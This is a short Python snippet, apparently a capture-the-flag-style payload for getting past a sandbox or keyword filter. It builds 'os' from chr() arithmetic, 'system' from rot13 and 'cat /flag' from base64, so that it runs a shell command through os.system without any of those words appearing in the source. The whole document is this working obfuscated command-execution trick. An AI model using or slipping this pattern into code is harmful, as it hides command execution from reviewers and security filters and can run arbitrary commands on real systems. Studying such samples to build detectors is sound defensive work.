# Three different encodings for the three pieces: module name via chr()
# arithmetic, function name via rot13, argument via base64.
import base64
import codecs

m = ''.join(chr(c + 1) for c in (110, 114))
f = codecs.decode('flfgrz', 'rot_13')
a = base64.b64decode(b'Y2F0IC9mbGFn').decode()
getattr(__import__(m), f)(a)
